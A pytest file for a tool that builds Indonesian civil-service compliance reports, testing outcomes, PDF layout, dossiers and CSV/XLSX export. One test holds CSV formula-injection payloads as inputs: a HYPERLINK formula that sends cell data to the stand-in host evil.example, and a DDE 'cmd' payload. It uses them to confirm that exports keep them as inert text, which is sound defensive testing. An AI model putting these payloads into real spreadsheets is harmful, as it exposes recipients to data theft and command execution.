"""The compliance report's pure rules: where each recommendation lands, who the PPK is, what the
Kemendagri list and the KASN-era dossier hold, and how the summary sorts."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Literal

import pytest
from pypdf import PdfReader

from sbt_sync.letters.render import latin1
from sbt_sync.reports.compliance_model import CaseFacts, StepFact, compile_report, outcome, ppk_of
from sbt_sync.reports.compliance_render import TABLES, as_csv, as_text, sorted_rows, table, write_pdf

AS_OF = date(2025, 1, 20)
NIP = "199001012015011001"
CASE = CaseFacts(
    case_id=1,
    case_key="K1",
    nip=NIP,
    event="PILKADA-2024",
    instansi_id="SAMPANG",
    issuer="KASN",
    result="terbukti",
    recommendation_no="R-1",
    recommendation_date=date(2024, 12, 1),
    deadline=date(2024, 12, 11),
    sanction=None,
    sanction_date=None,
    left_service=False,
    held=False,
)
NAMES = {"SAMPANG": "Pemerintah Kabupaten Sampang", "KEMENAG": "Kementerian Agama"}


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({}, ("not_followed_up", 40)),  # deadline 11 Dec passed, nothing recorded
        ({"deadline": AS_OF}, ("pending", None)),  # the deadline day itself still belongs to the PPK
        ({"sanction": "3", "sanction_date": date(2024, 12, 11)}, ("on_time", None)),  # on the deadline
        ({"sanction": "3", "sanction_date": date(2024, 12, 14)}, ("late", 3)),
        ({"sanction": "3", "sanction_date": None}, ("followed_up_undated", None)),
        ({"sanction": "3", "sanction_date": date(2025, 2, 1)}, ("not_followed_up", 40)),  # not yet
        ({"result": "dibatalkan", "sanction": "3"}, ("annulled", None)),
        ({"left_service": True}, ("left_service", None)),
        ({"held": True}, ("held", None)),  # no control step rests on a held case
        ({"deadline": None}, ("pending", None)),  # no date to count from
    ],
)
def test_each_recommendation_lands_in_one_place(
    change: dict[str, object], expected: tuple[str, int | None]
) -> None:
    assert outcome(replace(CASE, **change), AS_OF) == expected  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Pemerintah Provinsi Jawa Timur", ("Gubernur Jawa Timur", True)),
        ("Pemerintah Kabupaten Sampang", ("Bupati Sampang", True)),
        ("PEMERINTAH KOTA Medan", ("Wali Kota Medan", True)),
        ("Kementerian Agama", ("PPK Kementerian Agama", False)),
    ],
)
def test_the_ppk_of_a_regional_government_is_its_head(name: str, expected: tuple[str, bool]) -> None:
    assert ppk_of(name) == expected


def test_kemendagri_list_and_dossier_hold_only_what_they_should() -> None:
    cases = [
        CASE,
        replace(CASE, case_id=2, case_key="K2", recommendation_no="R-2", issuer="BKN"),
        replace(CASE, case_id=3, case_key="K3", sanction="3", sanction_date=date(2024, 12, 20)),
        replace(CASE, case_id=4, case_key="K4", instansi_id="KEMENAG"),
        # Dated after the report's day: not received yet, counted nowhere.
        replace(CASE, case_id=5, case_key="K5", recommendation_date=date(2025, 1, 21), deadline=None),
    ]
    letter = "0007/B-AK.02.02/SD/F/2024"
    steps = [StepFact(1, "peringatan", date(2024, 12, 11), letter, datetime(2024, 12, 11, 9, 0, tzinfo=UTC))]

    report = compile_report(
        cases,
        steps,
        {NIP: {1}},
        instansi_names=NAMES,
        person_names={NIP: "Budi Santoso"},
        as_of=AS_OF,
        follow_up_days=10,
        nip_display="last4",
    )

    sampang = next(r for r in report.rows if r.instansi_id == "SAMPANG")
    assert sampang.counts["received"] == 3 and sampang.counts["not_followed_up"] == 2
    assert sampang.counts["late"] == sampang.counts["followed_up"] == 1
    assert (sampang.median_overdue, sampang.worst_overdue) == (40, 40)
    assert sampang.issuers == {"KASN", "BKN"} and sampang.blocked_nips == {NIP}
    assert sampang.letters["peringatan"] == {letter}
    # Central instansi go to no regional head; the dossier is KASN's recommendations only.
    assert [(r.instansi_id, r.open_recommendations) for r in report.escalation] == [
        ("SAMPANG", ["R-1", "R-2"])
    ]
    assert [(d.instansi, d.recommendation_no) for d in report.dossier] == [
        ("Kementerian Agama", "R-1"),
        ("Pemerintah Kabupaten Sampang", "R-1"),
    ]
    dossier = report.dossier[1]
    assert dossier.nip == "*" * 14 + "1001" and dossier.name == "Budi Santoso"
    assert dossier.delivery == f"{letter} (2024-12-11)" and dossier.steps == (
        ("peringatan", date(2024, 12, 11)),
    )

    assert [r.instansi_id for r in sorted_rows(report, "not_followed_up")] == ["SAMPANG", "KEMENAG"]
    assert [r.instansi_id for r in sorted_rows(report, "instansi")] == ["KEMENAG", "SAMPANG"]
    with pytest.raises(ValueError, match="unknown sort column"):
        sorted_rows(report, "nope")
    assert table(report, "summary", "en")[0][:5] == [
        "Election",
        "Instansi",
        "PPK",
        "Issuer",
        "Recommendations",
    ]
    assert "Laporan kepatuhan PPK, per 2025-01-20" in as_text(report)


@pytest.mark.parametrize("lang", ["id", "en"])
def test_the_pdf_breaks_no_heading_word_and_fits_every_column_on_the_page(
    lang: Literal["id", "en"], tmp_path: Path
) -> None:
    """24 summary columns on landscape A4: the font shrinks until each column holds its longest heading
    word whole ("Pemblokiran" never becomes "Pemblokir" + "an"), and every heading word is in the text."""
    cases = [
        replace(CASE, case_id=i, case_key=f"K{i}", recommendation_no=f"R-{i}", instansi_id=instansi)
        for i, instansi in enumerate(["SAMPANG", "KEMENAG", "SAMPANG"], start=1)
    ]
    report = compile_report(
        cases,
        [],
        {},
        instansi_names=NAMES,
        person_names={},
        as_of=AS_OF,
        follow_up_days=10,
        nip_display="last4",
    )
    path = tmp_path / "kepatuhan.pdf"
    write_pdf(report, path, lang=lang)
    pages = PdfReader(path).pages
    for which, page in zip(TABLES, pages, strict=True):
        words = page.extract_text().split()
        headings = table(report, which, lang)[0]
        assert len(headings) >= (20 if which == "summary" else 3), which
        for heading in headings:
            for word in latin1(heading).split():
                assert word in words, (which, heading, word)


def test_source_text_never_becomes_a_formula_in_the_csv_or_xlsx(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from sbt_sync.reports.compliance_render import as_csv, write_xlsx

    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    report = compile_report(
        [replace(CASE, recommendation_no="@SUM(1+1)*cmd|' /C calc'!A0")],
        [],
        {NIP: {1}},
        instansi_names={"SAMPANG": formula},
        person_names={NIP: "-2+3"},
        as_of=AS_OF,
        follow_up_days=10,
        nip_display="full",
    )
    for which in TABLES:
        for row in csv.reader(io.StringIO(as_csv(report, which).split("\n", 1)[1])):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@")], (which, row)
    assert "'=HYPERLINK" in as_csv(report, "summary")
    write_xlsx(report, tmp_path / "kepatuhan.xlsx")
    book = load_workbook(tmp_path / "kepatuhan.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == formula for c in cells)  # kept as text, unchanged


def test_the_dossier_names_each_control_step_in_words_not_codes() -> None:
    """The Presidential-recommendation dossier lists the steps BKN took: a reader sees "Peringatan
    dini", never ``peringatan_dini`` (DESIGN.md: reports speak in words), in either language."""
    steps = [
        StepFact(1, "peringatan_dini", date(2024, 12, 9), "0001/B-AK.02.02/SD/F/2024", None),
        StepFact(1, "peringatan", date(2024, 12, 11), "0007/B-AK.02.02/SD/F/2024", None),
        StepFact(1, "pemblokiran", date(2024, 12, 25), None, None),
        StepFact(1, "buka_blokir", date(2024, 12, 27), None, None),
    ]
    report = compile_report(
        [CASE], steps, {}, instansi_names=NAMES, person_names={}, as_of=AS_OF, follow_up_days=10,
        nip_display="last4",
    )  # fmt: skip
    said = {}
    for lang in ("id", "en"):
        header, row = table(report, "dossier", lang)
        said[lang] = dict(zip(header, row, strict=True))
    assert said["id"]["Langkah pengendalian"] == (
        "Peringatan dini 2024-12-09, Peringatan 2024-12-11, Pemblokiran 2024-12-25, Buka blokir 2024-12-27"
    )
    assert said["en"]["Control steps"] == (
        "Early warning 2024-12-09, Warning 2024-12-11, Block 2024-12-25, Unblock 2024-12-27"
    )


@pytest.mark.parametrize(
    ("deadlines", "shown"),
    [
        ((date(2024, 12, 11), date(2024, 12, 11)), "40"),  # an even count whose middle two agree
        ((date(2024, 12, 11), date(2024, 12, 12)), "39.5"),
        ((date(2024, 12, 11),), "40"),
    ],
)
def test_median_days_overdue_reads_as_a_whole_number_when_it_is_one(
    deadlines: tuple[date, ...], shown: str, tmp_path: Path
) -> None:
    """The PDF showed one PPK's median as "40" and the next one's as "40.0": ``statistics.median``
    of an even count is a float even where the two middle values agree."""
    cases = [
        replace(CASE, case_id=i, case_key=f"K{i}", recommendation_no=f"R-{i}", deadline=deadline)
        for i, deadline in enumerate(deadlines, start=1)
    ]
    report = compile_report(
        cases,
        [],
        {},
        instansi_names=NAMES,
        person_names={},
        as_of=AS_OF,
        follow_up_days=10,
        nip_display="last4",
    )
    (row,) = report.rows
    assert str(row.median_overdue) == shown
    path = tmp_path / "kepatuhan.pdf"
    write_pdf(report, path)
    assert shown in PdfReader(path).pages[0].extract_text().split()
    assert f",{shown}," in as_csv(report)
